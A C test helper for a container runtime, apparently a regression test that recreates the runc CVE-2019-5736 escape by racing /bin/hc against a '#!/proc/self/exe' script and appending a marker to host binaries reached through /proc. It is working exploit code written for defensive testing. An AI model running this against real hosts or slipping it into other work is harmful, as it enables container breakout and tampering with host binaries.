/* The attacker of tests/test_exec_race.py: a container's own process trying the runc
 * CVE-2019-5736 route to the host, against `sdcontainer exec` and health checks.
 *
 *   exec_race SECONDS LOG
 *
 * One child swaps /bin/hc (a harmless script, the command exec and the health check run)
 * with /bin/hc.evil (`#!/proc/self/exe`) with renameat2(RENAME_EXCHANGE), as fast as it can:
 * if the process that execs /bin/hc is the host's interpreter, the kernel runs that
 * interpreter again, inside the container. The parent scans /proc for every process whose
 * exe it can open and that is not a file of the container's own tree (the same path inside
 * does not lead to the same inode): it logs "FOREIGN <pid> <exe>", keeps the fd and, once
 * the process has ended (ETXTBSY until then), reopens it for writing through /proc/self/fd
 * and appends a marker to it: "WROTE <exe>" in the log means the host's binary changed.
 * Runs for SECONDS, then prints "DONE <scans>" to the log and exits 0.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char MARKER[] = "\nSDCONTAINER-EXEC-RACE-WON\n";
static FILE *logfile;

static void write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) {
        perror(path);
        exit(2);
    }
    close(fd);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The exe's fd, kept until the process has gone and the file can be opened for writing. */
static void try_to_overwrite(int fd, const char *exe) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    double deadline = now() + 60; /* any process running the file keeps it busy */
    while (now() < deadline) {
        int w = open(path, O_WRONLY | O_APPEND);
        if (w >= 0) {
            if (write(w, MARKER, sizeof MARKER - 1) > 0) fprintf(logfile, "WROTE %s\n", exe);
            else fprintf(logfile, "WRITE-FAILED %s errno=%d\n", exe, errno);
            close(w);
            return;
        }
        if (errno != ETXTBSY) {
            fprintf(logfile, "OPEN-FAILED %s errno=%d\n", exe, errno);
            return;
        }
        usleep(500);
    }
    fprintf(logfile, "BUSY %s\n", exe);
}

static void scan(pid_t self, pid_t swapper) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
        pid_t pid = atoi(entry->d_name);
        if (pid <= 0 || pid == self || pid == swapper) continue;
        char link[64], exe[4096];
        snprintf(link, sizeof link, "/proc/%d/exe", pid);
        int fd = open(link, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue; /* gone, a kernel thread, or not dumpable: nothing to open */
        char own[64];
        snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(own, exe, sizeof exe - 1);
        exe[n > 0 ? n : 0] = '\0';
        struct stat opened, inside;
        if (fstat(fd, &opened) == 0 && stat(exe, &inside) == 0 && opened.st_dev == inside.st_dev &&
            opened.st_ino == inside.st_ino) {
            close(fd); /* one of the container's own programs */
            continue;
        }
        fprintf(logfile, "FOREIGN %d %s\n", pid, exe);
        fflush(logfile);
        try_to_overwrite(fd, exe);
        fflush(logfile);
        close(fd);
    }
    if (proc) closedir(proc);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exec_race SECONDS LOG\n");
        return 2;
    }
    double seconds = atof(argv[1]);
    logfile = fopen(argv[2], "w");
    if (logfile == NULL) {
        perror(argv[2]);
        return 2;
    }
    setvbuf(logfile, NULL, _IOLBF, 0);
    write_file("/bin/hc", "#!/bin/sh\nexit 0\n");
    write_file("/bin/hc.evil", "#!/proc/self/exe\n");
    pid_t swapper = fork();
    if (swapper == 0) {
        for (;;) syscall(SYS_renameat2, AT_FDCWD, "/bin/hc", AT_FDCWD, "/bin/hc.evil", RENAME_EXCHANGE);
    }
    fprintf(logfile, "START\n");
    double end = now() + seconds;
    long scans = 0;
    while (now() < end) {
        scan(getpid(), swapper);
        scans++;
    }
    kill(swapper, SIGKILL);
    fprintf(logfile, "DONE %ld\n", scans);
    fclose(logfile);
    return 0;
}
